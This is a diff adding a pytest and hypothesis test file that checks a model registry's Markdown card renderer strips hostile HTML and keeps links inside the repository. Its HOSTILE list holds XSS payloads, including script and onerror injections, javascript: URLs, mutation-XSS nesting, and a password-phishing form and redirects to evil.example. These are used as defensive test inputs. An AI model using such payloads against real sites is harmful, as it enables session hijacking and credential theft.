@@ -1,0 +1,139 @@
+"""Markdown from anyone: rendered for readers, harmless to them."""
+
+import re
+from html.parser import HTMLParser
+
+import pytest
+from hypothesis import given, settings
+from hypothesis import strategies as st
+
+from models_registry.services.cards import ATTRIBUTES, TAGS, Place, render
+
+PLACE = Place(blob="/ann/net/blob/main/", resolve="/ann/net/resolve/main/")
+
+HOSTILE = [
+    "<script>alert(1)</script>",
+    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
+    "<img src=x onerror=alert(1)>",
+    "<svg onload=alert(1)><script>alert(1)</script></svg>",
+    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
+    "[x](javascript:alert(1))",
+    "[x](JaVaScRiPt:alert(1))",
+    "[x](java\tscript:alert(1))",
+    "[x](&#106;avascript:alert(1))",
+    "<a href=' javascript:alert(1)'>x</a>",
+    "<a href='\x01javascript:alert(1)'>x</a>",
+    "[x](vbscript:msgbox(1))",
+    "[x](data:text/html;base64,PHNjcmlwdD4=)",
+    "![x](data:image/svg+xml;base64,PHN2Zz4=)",
+    '![x](" onerror="alert(1))',
+    '![a](x.png "" onerror=alert(1) "")',
+    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
+    "<object data=x.swf></object><embed src=x.swf>",
+    "<form action=//evil.example><input name=password type=password><button>go</button></form>",
+    "<style>body{display:none}</style><link rel=stylesheet href=//evil.example>",
+    "<div style='position:fixed;inset:0'>x</div>",
+    "<a class='stretched-link btn btn-primary' href=//evil.example>x</a>",
+    "<div id=content data-copy=x hx-get=/settings hx-trigger=load data-hx-post=/x>x</div>",
+    "<meta http-equiv=refresh content='0;url=//evil.example'><base href=//evil.example>",
+    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
+    "<!--><img src=x onerror=alert(1)>-->",
+    "<a href=x title='\"><img src=x onerror=alert(1)>'>x</a>",
+    "```html\n<script>alert(1)</script>\n```",
+    '```"><img src=x onerror=alert(1)>\nx\n```',
+    "<video src=//evil.example/x.mp4 autoplay onplay=alert(1)></video>",
+    "<input type=password><input type=image src=//evil.example>",
+    "\u202e[x](https://a.example)\u0000<b>",
+]
+
+
+class Auditor(HTMLParser):
+    """Fails on anything that a card may not hold."""
+
+    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
+        assert tag in TAGS
+        allowed = ATTRIBUTES["*"] | ATTRIBUTES.get(tag, set()) | {"rel"}
+        for name, value in attrs:
+            assert name in allowed
+            if name in {"href", "src"}:
+                assert re.match(r"(https?://|mailto:|/|#card-)", value or "", re.IGNORECASE), value
+                assert name == "href" or not value.startswith("//")
+            if name == "id":
+                assert value.startswith("card-")
+            if name == "class":
+                assert not {"btn", "stretched-link", "btn-primary"} & set(value.split())
+            if tag == "input" and name == "type":
+                assert value == "checkbox"
+
+
+def audit(html: str) -> None:
+    auditor = Auditor()
+    auditor.feed(html)
+    auditor.close()
+
+
+@pytest.mark.parametrize("text", HOSTILE)
+def test_nothing_hostile_survives_rendering(text):
+    audit(render(text, PLACE))
+    audit(render(f"text {text} text", PLACE))
+    audit(render(f"- [ ] {text}\n\n| {text} |\n|--|\n| {text} |\n", PLACE))
+
+
+@settings(max_examples=150, deadline=None)
+@given(
+    st.lists(
+        st.sampled_from([*HOSTILE, "<", ">", '"', "'", "`", "[", "](", ")", "\n\n", "**", "# ", "> ", "&quot;", "x"]),
+        max_size=12,
+    )
+)
+def test_no_combination_of_hostile_pieces_survives_rendering(pieces):
+    audit(render("".join(pieces), PLACE))
+
+
+@pytest.mark.parametrize(
+    ("written", "folder", "expected"),
+    [
+        ("[x](docs/use.md)", "", 'href="/ann/net/blob/main/docs/use.md"'),
+        ("[x](use.md#how)", "docs", 'href="/ann/net/blob/main/docs/use.md#how"'),
+        ("[x](../train.py)", "docs", 'href="/ann/net/blob/main/train.py"'),
+        ("[x](#how-to)", "", 'href="#card-how-to"'),
+        ("[x](https://a.example/b)", "", 'href="https://a.example/b"'),
+        ("![x](plots/a%20b.png)", "", 'src="/ann/net/resolve/main/plots/a%20b.png"'),
+        ('<img src="plots/a b.png">', "", 'src="/ann/net/resolve/main/plots/a%20b.png"'),
+    ],
+)
+def test_relative_addresses_lead_into_the_repository(written, folder, expected):
+    assert expected in render(written, Place(PLACE.blob, PLACE.resolve, folder))
+
+
+@pytest.mark.parametrize(
+    "written", ["[x](../../settings)", "![x](../../other/net/resolve/main/x.png)", "[x](//evil.example)"]
+)
+def test_relative_addresses_cannot_leave_the_repository(written):
+    html = render(written, PLACE)
+    assert "href" not in html
+    assert "src" not in html
+
+
+def test_a_picture_from_elsewhere_is_a_link_so_that_reading_tells_nobody():
+    assert render("![badge](https://a.example/b.svg)", PLACE).startswith('<p><a href="https://a.example/b.svg"')
+    assert render("[![badge](https://a.example/b.svg)](https://c.example)", PLACE).count("<a ") == 1
+
+
+def test_the_page_keeps_the_only_first_heading_and_headings_can_be_linked_to():
+    html = render("# Title\n\n## Part one\n", PLACE)
+    assert '<h2 id="card-title">Title</h2>' in html
+    assert '<h3 id="card-part-one">Part one</h3>' in html
+
+
+def test_tables_footnotes_task_lists_and_code_are_drawn():
+    html = render("| a |\n|--|\n| 1 |\n\n- [x] done\n\nnote[^1]\n\n[^1]: foot\n\n```python\nx = 1\n```\n", PLACE)
+    assert "<table>" in html
+    assert 'type="checkbox"' in html
+    assert 'class="footnotes"' in html
+    assert '<code class="highlight"><span class="n">x</span>' in html
+
+
+def test_a_very_long_or_deep_card_is_rendered_in_bounded_time():
+    for text in ("> " * 5000 + "x", "[" * 20_000, "*a " * 20_000, "`" * 20_000, "<div>" * 20_000, "| a " * 5000):
+        audit(render(text, PLACE))
